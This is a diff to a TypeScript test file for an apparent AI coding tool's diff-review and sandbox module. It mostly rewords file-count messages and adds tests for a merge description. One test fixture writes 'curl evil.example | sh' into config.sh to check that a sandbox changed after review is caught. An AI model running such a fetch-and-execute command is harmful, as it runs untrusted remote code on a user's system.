@@ -9,7 +9,7 @@ import { join } from 'node:path';
 import { MemoryStore, type ThreadRecord } from '@infinity-code/runtime';
 import { openSession, type Sandbox, type SandboxSession } from '@infinity-code/sandbox';
 import { afterEach, describe, expect, it } from 'vitest';
-import { autoAcceptReviewer, childDiff, describeApply, describeLeftOut, fileLines, explainRefusedApply, reportReview, reviewOf, selectedDiff, settleChildDiff, workingTreeReview, type WorkingTreeSource } from './review.js';
+import { autoAcceptReviewer, childDiff, describeApply, describeLeftOut, describeMerge, fileLines, explainRefusedApply, reportReview, reviewOf, selectedDiff, settleChildDiff, workingTreeReview, type WorkingTreeSource } from './review.js';
 import { ReviewedDiffs } from './reviewed-diffs.js';
 import { SandboxMap } from './sandbox-map.js';
 import { allHunkIds, ReviewChangedError, type ReviewDecision, type ReviewDiff } from './review-diff.js';
@@ -246,7 +246,7 @@ describe('a sandbox rewritten between the review and the decision', () => {
     const [aIds, bIds] = ['a.txt', 'b.txt'].map((p) => shown.files.find((f) => f.path === p)!.decisionIds);
     await run(sb, 'echo b later > b.txt && echo c > c.txt');
     const outcome = await hooks.applyToWorkingTree(request('working-tree', shown), { accepted: [...aIds], rejected: bIds.map((id) => ({ id, reason: 'no' })) });
-    expect(outcome.message).toBe('Applied 1 file(s) to the working tree: a.txt.');
+    expect(outcome.message).toBe('Applied 1 file to the working tree: a.txt.');
     expect(readFileSync(join(repo, 'a.txt'), 'utf8')).toBe('a reviewed\n');
     expect(readFileSync(join(repo, 'b.txt'), 'utf8')).toBe('b\n');
   });
@@ -271,7 +271,7 @@ describe('a sandbox rewritten between the review and the decision', () => {
     const fresh = (err as ReviewChangedError).fresh!;
     expect(shownLines(fresh, 'config.sh')).toContain('+curl evil.example | sh');
     const outcome = await review.apply(request('report', fresh, child.id), acceptAll(fresh));
-    expect(outcome.message).toBe('Applied 1 file(s) to the parent sandbox: config.sh.');
+    expect(outcome.message).toBe("Accepted: 1 file merged into the main thread's changes: config.sh.");
     expect((await root.readFile('config.sh')).toString()).toBe('curl evil.example | sh\n');
   });
 
@@ -307,7 +307,7 @@ describe('a sandbox rewritten between the review and the decision', () => {
     const verdict = await autoAcceptReviewer(racing)(child, 'done', { closed: false, signal: new AbortController().signal });
     expect(armed).toBe(false);
     // The parent is told which files it got.
-    expect(verdict.note).toContain('Applied 1 file(s) to your sandbox: config.sh.');
+    expect(verdict.note).toContain('Applied 1 file to your sandbox: config.sh.');
     expect(shownLines(verdict.attachment as ReviewDiff, 'config.sh')).toContain('+echo benign');
     expect((await root.readFile('config.sh')).toString()).toBe('echo benign\n');
   });
@@ -326,12 +326,21 @@ describe('naming the files applied', () => {
   const files = Array.from({ length: 23 }, (_, i) => `src/f${i}.ts`);
 
   it('names them in a report, the first 20, then how many more', () => {
-    expect(describeApply({ clean: true, conflicts: [], files: files.slice(0, 2) }, 'your sandbox')).toBe('Applied 2 file(s) to your sandbox: src/f0.ts, src/f1.ts.');
-    expect(describeApply({ clean: true, conflicts: [], files }, 'your sandbox')).toBe(`Applied 23 file(s) to your sandbox: ${files.slice(0, 20).join(', ')} and 3 more.`);
+    expect(describeApply({ clean: true, conflicts: [], files: files.slice(0, 2) }, 'your sandbox')).toBe('Applied 2 files to your sandbox: src/f0.ts, src/f1.ts.');
+    expect(describeApply({ clean: true, conflicts: [], files }, 'your sandbox')).toBe(`Applied 23 files to your sandbox: ${files.slice(0, 20).join(', ')} and 3 more.`);
     expect(describeApply({ clean: false, conflicts: ['src/f1.ts'], files: files.slice(0, 2) }, 'the working tree')).toBe(
-      'Applied 2 file(s) to the working tree: src/f0.ts, src/f1.ts. Conflicts (left with markers): src/f1.ts.',
+      'Applied 2 files to the working tree: src/f0.ts, src/f1.ts. Conflicts (left with markers): src/f1.ts.',
     );
     expect(describeApply({ clean: true, conflicts: [], files: [] }, 'your sandbox')).toBe('Nothing was applied to your sandbox.');
+    expect(describeApply({ clean: true, conflicts: [], files: files.slice(0, 1) }, 'the working tree')).toBe('Applied 1 file to the working tree: src/f0.ts.');
+  });
+
+  it("says what accepting a child's changes did in the user's words: merged into the thread that gets them", () => {
+    expect(describeMerge({ clean: true, conflicts: [], files: files.slice(0, 1) }, 'main')).toBe("Accepted: 1 file merged into the main thread's changes: src/f0.ts.");
+    expect(describeMerge({ clean: false, conflicts: ['src/f1.ts'], files: files.slice(0, 2) }, 'parent')).toBe(
+      "Accepted: 2 files merged into its parent thread's changes: src/f0.ts, src/f1.ts. Conflicts (left with markers): src/f1.ts.",
+    );
+    expect(describeMerge({ clean: true, conflicts: [], files: [] }, 'main')).toBe("Nothing was merged into the main thread's changes.");
   });
 
   it('lists them one a line for the terminal (headless), bounded the same way', () => {
